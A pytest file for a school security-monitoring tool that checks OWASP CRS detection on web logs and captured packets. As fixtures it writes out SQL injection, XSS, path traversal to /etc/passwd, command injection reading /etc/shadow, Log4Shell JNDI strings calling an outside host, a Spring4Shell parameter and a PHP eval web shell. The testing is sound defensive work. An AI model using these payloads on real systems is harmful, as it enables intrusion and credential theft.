"""OWASP CRS through ModSecurity v3: real CRS rules (Debian's modsecurity-crs), real requests, real packets."""
from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from detection_rules.cli import detect
from detection_rules.crs import DEFAULT_RULES_DIR, CrsEngine
from detection_rules.default_set import default_detection, load_crs
from sensors.pcap import read_pcap
from soc_core.config import ConfigError, CrsSettings, Settings, load_settings
from soc_core.events import stable_event_id
from tests.sensor_traffic import Conversation, write

pytestmark = pytest.mark.skipif(not DEFAULT_RULES_DIR.is_dir(),
                                reason=f"OWASP CRS not installed at {DEFAULT_RULES_DIR} (apt-get install modsecurity-crs)")
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"


@pytest.fixture(scope="module")
def crs() -> CrsEngine:
    return CrsEngine(DEFAULT_RULES_DIR)


def web_event(target: str, n: int = 1, agent: str = BROWSER, **extra: object) -> dict[str, object]:
    """An access-log request as sensors/weblog.py writes it."""
    path, _, query = target.partition("?")
    event: dict[str, object] = {
        "@timestamp": f"2026-11-02T01:00:{n:02d}.000000Z", "event.id": stable_event_id("crs-test", target, str(n)),
        "event.kind": "event", "event.dataset": "edusoc.web", "source.ip": "203.0.113.7",
        "http.request.method": "GET", "url.original": target, "url.path": path, "user_agent.original": agent,
    }
    if query:
        event["url.query"] = query
    event.update(extra)
    return event


def http_events_of(tmp_path: Path, requests: list[bytes]) -> list[dict[str, object]]:
    """The edusoc.http events the packet sensor makes of ``requests`` sent over real TCP conversations."""
    packets = []
    for number, request in enumerate(requests):
        conversation = Conversation(sport=41000 + number).handshake().send(True, request)
        conversation.send(False, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok").close()
        packets += conversation.packets
    events, _ = read_pcap(write(tmp_path, packets))
    return [event for event in events if event.get("event.dataset") == "edusoc.http"]


def post(path: str, body: bytes, content_type: str = "application/x-www-form-urlencoded") -> bytes:
    return (f"POST {path} HTTP/1.1\r\nHost: jwc.school1.edu.cn\r\nUser-Agent: {BROWSER}\r\n"
            f"Content-Type: {content_type}\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body


def test_loads_the_crs_request_rules_without_geoip(crs):
    described = crs.describe()
    assert described["version"] == "OWASP CRS 3.3.4" and described["rules"] >= 700
    assert not any("REQUEST-910" in path.name for path in crs.files)
    assert all(path.name.startswith("REQUEST-") for path in crs.files)


@pytest.mark.parametrize(("target", "family", "rule"), [
    ("/news.php?id=1%27%20union%20select%201,user(),database(),4--%20-", "sqli", 942100),
    ("/search.php?kw=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "xss", 941110),
    ("/download.php?file=../../../../etc/passwd", "lfi", 930100),
    ("/ping.php?host=127.0.0.1;cat%20/etc/shadow", "rce", 932100),
])
def test_attack_urls_raise_one_alert_each_with_the_contributing_rules(crs, target, family, rule):
    alerts = crs.scan_event(web_event(target))
    assert len(alerts) == 1
    alert = alerts[0]
    assert alert.rule_id == f"crs:{family}" and alert.rule_title_zh.endswith("（OWASP CRS）")
    assert rule in alert.matches["crs_rule_ids"]
    assert alert.matches["anomaly_score"] >= 5 and alert.matches["national_category"] == "network_attack"
    assert "attack.t1190" in alert.tags or "attack.t1189" in alert.tags
    first = alert.matches["crs_rules"][0]
    assert first["message"] and first["matched"] and first["severity"] == "CRITICAL"


@pytest.mark.parametrize("target", [
    "/course/search?q=select+a+course", "/search.php?q=how+to+select+courses+for+next+term", "/news.php?id=1024&page=2",
    "/login.php?redirect=%2Fstudent%2Ftimetable", "/library/catalog?title=Romeo+%26+Juliet&lang=en",
    "/news/comment.php?content=%E8%AF%B7%E9%97%AE%E5%9B%BE%E4%B9%A6%E9%A6%86%E5%91%A8%E6%9C%AB%E5%BC%80%E6%94%BE%E5%90%97%EF%BC%9F",  # UTF-8 Chinese: CRS 941310 is left out (crs_supplement)
])
def test_ordinary_school_requests_raise_nothing(crs, target):
    assert crs.scan_event(web_event(target)) == []


def test_sql_injection_in_a_posted_body_is_caught_from_packets(tmp_path, crs):
    events = http_events_of(tmp_path, [
        post("/login.php", b"username=admin%27+or+%271%27%3D%271%27--+&password=x"),
        post("/login.php", b"username=stu2024&password=Secret%21123&remember=1"),
        post("/api/grades", b'{"student":"2024001","note":"1 union select password from users--"}', "application/json"),
    ])
    assert len(events) == 3 and all(event.get("http.request.body.content") for event in events)
    assert "admin" not in str(events[0]["url.original"])  # only the body carries it
    verdicts = [[alert.rule_id for alert in crs.scan_event(event)] for event in events]
    assert verdicts == [["crs:sqli"], [], ["crs:sqli"]]


def test_a_body_that_is_not_utf8_is_still_inspected(crs):
    body = b"q=%27+union+select+password+from+users--+\xe9\xff&x=\x00\xfe"
    event = web_event("/search.php", **{"event.dataset": "edusoc.http", "http.request.method": "POST",
                                        "http.request.body.content": base64.b64encode(body).decode()})
    alerts = crs.scan_event(event)
    assert [alert.rule_id for alert in alerts] == ["crs:sqli"]
    assert any("union select" in str(hit["matched"]) for hit in alerts[0].matches["crs_rules"])  # type: ignore[union-attr]


@pytest.mark.parametrize(("where", "payload"), [
    ("user_agent.original", "${jndi:ldap://203.0.113.9:1389/a}"),
    ("user_agent.original", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://203.0.113.9/a}"),
    ("url.original", "/index.jsp?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
])
def test_the_edusoc_supplement_catches_java_attacks_crs_3_3_4_predates(crs, where, payload):
    event = web_event("/index.jsp", **{where: payload})
    assert [alert.rule_id for alert in crs.scan_event(event)] == ["crs:java"]
    plain = CrsEngine(DEFAULT_RULES_DIR, supplement=False)
    assert plain.scan_event(event) == [] and plain.supplement_rule_count == 0 and crs.supplement_rule_count == 4


@pytest.mark.parametrize(("target", "alerted"), [
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", True), ("/WEB-INF/web.xml", True), ("/www.zip", True),
    ("/HNAP1/", True), ("/downloads/2026-timetable.zip", False), ("/actuator/health", False),
])
def test_probe_paths_only_scanners_ask_for_are_scanner_alerts(crs, target, alerted):
    alerts = crs.scan_event(web_event(target))
    assert [alert.rule_id for alert in alerts] == (["crs:scanner"] if alerted else [])
    if alerted:
        assert 99160 in alerts[0].matches["crs_rule_ids"] and alerts[0].level == "medium"  # type: ignore[operator]


def test_cookie_header_is_inspected_when_the_event_has_it(crs):
    clean = web_event("/index.php", **{"http.request.cookie": "PHPSESSID=8f3a1c; lang=zh-CN"})
    attack = web_event("/index.php", 2, **{"http.request.cookie": "PHPSESSID=8f3a1c; lang=' union select 1,2,3-- "})
    assert crs.scan_event(clean) == []
    assert [alert.rule_id for alert in crs.scan_event(attack)] == ["crs:sqli"]


def test_static_assets_skip_the_engine_unless_something_could_match():
    engine = CrsEngine(DEFAULT_RULES_DIR)
    plain = [web_event("/static/css/site.css", 1), web_event("/static/js/app.js?v=3", 2),
             web_event("/img/banner.jpg", 3, **{"http.request.referrer": "http://www.school1.edu.cn/news/list.php?page=2"})]
    for event in plain:
        assert engine.scan_event(event) == []
    assert (engine.stats.skipped, engine.stats.inspected) == (3, 0)
    inspected = [
        web_event("/favicon.ico", 4, agent="sqlmap/1.7.2#stable (https://sqlmap.org)"),  # a scanner's name
        web_event("/static/js/app.js?v=%27%20or%201=1--", 5),  # a query no token pattern allows
        web_event("/static/../../etc/passwd.css", 6),  # dot segments
        web_event("/static/site.css", 7, **{"http.request.cookie": "lang=zh"}),  # cookies always go to the CRS
        web_event("/logo.png", 8, **{"http.request.referrer": "http://x/?q=<script>alert(1)</script>"}),
    ]
    raised = [[alert.rule_id for alert in engine.scan_event(event)] for event in inspected]
    assert engine.stats.skipped == 3 and engine.stats.inspected == 5
    assert raised[0] == ["crs:scanner"] and raised[1] == ["crs:sqli"] and raised[2] == ["crs:lfi"]
    without_skip = CrsEngine(DEFAULT_RULES_DIR, skip_static=False)
    for event in plain:
        assert without_skip.scan_event(event) == []  # the skip changes the cost, never the verdict
    assert without_skip.stats.inspected == 3


def test_paranoia_level_and_threshold_come_from_the_settings(tmp_path):
    probe = web_event("/news.php?id=1%27")  # a lone quote: scored only at paranoia level 2 and up
    default, _ = load_crs(Settings().detection.crs)
    assert default is not None and (default.paranoia_level, default.anomaly_threshold) == (1, 5)
    assert default.scan_event(probe) == []
    config = tmp_path / "edusoc.yaml"
    config.write_text("detection:\n  crs:\n    paranoia_level: 2\n    anomaly_threshold: 4\n", encoding="utf-8")
    strict, _ = load_crs(load_settings(config).detection.crs)
    assert strict is not None and strict.scan_event(probe) != []
    lenient, _ = load_crs(CrsSettings(anomaly_threshold=1000))
    assert lenient is not None and lenient.scan_event(web_event("/news.php?id=1%27%20union%20select%201,2--")) == []
    assert load_crs(CrsSettings(enabled=False)) == (None, None)
    missing, reason = load_crs(CrsSettings(rules_dir=str(tmp_path / "nowhere")))
    assert missing is None and reason is not None and "nowhere" in reason and "modsecurity-crs" in reason
    config.write_text("detection:\n  crs:\n    paranoia_level: 5\n", encoding="utf-8")
    with pytest.raises(ConfigError, match="paranoia_level"):
        load_settings(config)


app = typer.Typer()
app.command("detect")(detect)
app.command("unused")(lambda: None)  # two commands: the test calls `detect` by name, as the CLI does
runner = CliRunner()


def test_detect_without_rule_flags_uses_what_run_uses(tmp_path, clock):
    from edusoc.runtime import build_runtime

    shell = b"<?php @eval($_POST['pass']); ?>"
    events = [
        web_event("/news.php?id=1%27%20union%20select%201,user(),database(),4--%20-", 1),  # Sigma and the CRS
        web_event("/course/search?q=select+a+course", 2),
        {**web_event("/upload.php", 3), "event.dataset": "edusoc.http", "http.request.method": "POST",
         "http.request.body.content": base64.b64encode(shell).decode()},  # YARA (and the CRS's PHP rules)
        {**web_event("/login.php", 4), "event.dataset": "edusoc.http", "http.request.method": "POST",
         "http.request.body.content": base64.b64encode(b"username=admin%27+or+%271%27%3D%271%27--+&password=x").decode()},
    ]
    path = tmp_path / "events.ndjson"
    path.write_text("".join(json.dumps(event) + "\n" for event in events), encoding="utf-8")
    result = runner.invoke(app, ["detect", "--events", str(path)], env={"EDUSOC_DATA_DIR": str(tmp_path / "data")})
    assert result.exit_code == 0, result.output
    from_cli = sorted((line["rule_id"], line["id"]) for line in map(json.loads, result.stdout.splitlines()))
    runtime = build_runtime(Settings(data_dir=str(tmp_path / "data")), clock)
    try:
        from_run = sorted((alert.rule_id, alert.id) for alert in runtime.ingest.engine.process_many([dict(e) for e in events]))
    finally:
        runtime.close()
    assert from_cli == from_run
    rule_ids = {rule_id for rule_id, _ in from_cli}
    assert {"crs:sqli", "883fe4fe-3a19-41bd-85b3-6bb76654e90a"} <= rule_ids
    assert any(rule_id.startswith("yara:") for rule_id in rule_ids)
    assert "OWASP CRS 3.3.4" in result.stderr and "YARA rules" in result.stderr
    assert default_detection(Settings().detection).describe() in result.stderr


def test_detect_exits_non_zero_when_every_line_is_rejected(tmp_path):
    path = tmp_path / "bad.ndjson"
    path.write_text('{"message": "no timestamp"}\nnot json at all\n', encoding="utf-8")
    result = runner.invoke(app, ["detect", "--events", str(path)])
    assert result.exit_code == 1
    assert "every input line was rejected (2 lines)" in result.stderr and "line 1: @timestamp" in result.stderr
    path.write_text('not json\n' + json.dumps(web_event("/index.php")) + "\n", encoding="utf-8")
    partly = runner.invoke(app, ["detect", "--events", str(path)])
    assert partly.exit_code == 0 and "1 bad lines skipped" in partly.stderr
